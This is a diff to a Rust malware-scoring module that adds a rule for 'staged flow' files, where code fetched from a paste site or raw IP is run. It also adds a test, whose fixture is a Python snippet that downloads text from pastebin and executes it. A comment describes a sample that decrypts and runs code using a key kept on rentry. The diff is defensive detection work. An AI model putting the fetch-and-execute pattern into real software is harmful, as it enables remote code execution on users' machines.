@@ -160,6 +160,11 @@ pub const COMBINATIONS: &[Combination] = &[
         weight: 0.55,
     },
     Combination {
+        id: "combo:staged-flow",
+        description: "a response reaches a process start, and the same file fetches from a paste site, file host, free app host or raw IP",
+        weight: 0.45,
+    },
+    Combination {
         id: "combo:stolen-to-endpoint",
         description: "stealer-target access and an exfiltration endpoint in the same file",
         weight: 0.5,
@@ -385,6 +390,21 @@ fn combination_evidence<'f>(
                 f.has_tag("saves-download") && f.context != ExecContext::TestOrDocs
             })?;
             Some((saved, start))
+        }
+        "combo:staged-flow" => {
+            // python-cookies-shower: a Fernet key read from rentry decrypts the code that a
+            // second interpreter runs. The fetch and the start sit in different functions, but
+            // the traced flow joins them; a staging host is where such code is kept.
+            let flow = strongest(findings, |f| {
+                f.has_tag("flow-download-exec") && f.context != ExecContext::TestOrDocs
+            })?;
+            let endpoint = strongest(findings, |f| {
+                f.rule == "WH160"
+                    && f.severity >= 0.2
+                    && !f.message.contains("executable")
+                    && f.context != ExecContext::TestOrDocs
+            })?;
+            Some((endpoint, flow))
         }
         "combo:stolen-to-endpoint" => {
             let steal = strongest(findings, |f| {
@@ -624,6 +644,17 @@ mod tests {
         let s = score("pkg/pkg/core.py", paging);
         assert!(!has(&s, "combo:dead-drop"), "{s:?}");
         assert!(s.malware < 0.4, "{s:?}");
+    }
+
+    #[test]
+    fn code_fetched_from_a_paste_site_and_run_elsewhere_in_the_file_is_staged() {
+        let code = "import subprocess, requests\ndef fetch():\n    return requests.get('https://pastebin.com/raw/abcd').text\ndef run():\n    subprocess.call(['python', '-c', fetch()])\n";
+        let s = score("pkg/pkg/core.py", code);
+        assert!(has(&s, "combo:staged-flow"), "{s:?}");
+        assert!(s.malware >= 0.7, "{s:?}");
+        let vendor = "import subprocess, requests\ndef fetch():\n    return requests.get('https://api.vendor.example/v1/cmd').text\ndef run():\n    subprocess.call(['tool', fetch()])\n";
+        let s = score("pkg/pkg/core.py", vendor);
+        assert!(!has(&s, "combo:staged-flow"), "{s:?}");
     }
 
     #[test]
